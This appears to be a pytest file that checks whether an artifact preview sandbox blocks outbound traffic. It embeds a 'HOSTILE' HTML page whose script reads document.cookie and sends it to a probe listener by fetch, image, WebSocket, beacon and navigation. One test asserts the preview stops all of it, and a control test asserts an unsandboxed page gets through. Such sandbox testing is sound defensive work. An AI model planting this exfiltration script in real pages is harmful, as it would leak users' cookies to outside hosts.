"""The sandbox proof: what an artifact page tries never reaches a listener via the preview."""

from __future__ import annotations

import time

from tests.builder.conftest import Servers
from tests.builder.helpers import InBrowser, Opened, OpenPage

HOSTILE = """<!doctype html><html><head><meta charset="utf-8"><title>probe</title></head>
<body><h1>probe</h1><script>
var base = "{probe}/{tag}";
var cookie = "none";
try {{ cookie = document.cookie || "empty"; }} catch (e) {{ cookie = "blocked"; }}
try {{ fetch(base + "/fetch?c=" + cookie).catch(function () {{}}); }} catch (e) {{}}
try {{ var img = new Image(); img.src = base + "/img?c=" + cookie; }} catch (e) {{}}
try {{ new WebSocket(base.replace("http", "ws") + "/ws"); }} catch (e) {{}}
try {{ navigator.sendBeacon(base + "/beacon"); }} catch (e) {{}}
setTimeout(function () {{
  try {{ window.top.location.href = base + "/top"; }} catch (e) {{}}
  try {{ window.location.href = base + "/self"; }} catch (e) {{}}
}}, 150);
</script></body></html>"""


def _hits(servers: Servers, tag: str) -> list[str]:
    return [path for path in servers.hits if path.startswith(f"/{tag}/")]


def _settle(opened: Opened, servers: Servers, tag: str, want: int) -> list[str]:
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline and len(_hits(servers, tag)) < want:
        opened.page.wait_for_timeout(50)
    return _hits(servers, tag)


def test_nothing_reaches_the_listener_through_the_preview(
    servers: Servers, open_page: OpenPage, in_browser: InBrowser
) -> None:
    def steps() -> None:
        page = HOSTILE.format(probe=servers.probe, tag="preview")
        opened = open_page(servers.publish(page))
        opened.page.wait_for_timeout(1200)
        assert _settle(opened, servers, "preview", want=1) == []
        assert opened.page.url.startswith(servers.preview)

    in_browser(steps)


def test_the_control_page_without_headers_does_reach_it(
    servers: Servers, open_page: OpenPage, in_browser: InBrowser
) -> None:
    def steps() -> None:
        page = HOSTILE.format(probe=servers.probe, tag="control")
        opened = open_page(servers.raw(page))
        hits = _settle(opened, servers, "control", want=5)
        kinds = {path.split("/")[2].split("?")[0] for path in hits}
        assert {"fetch", "img", "ws"} <= kinds
        assert kinds & {"top", "self"}
        assert any("c=empty" in path for path in hits)

    in_browser(steps)
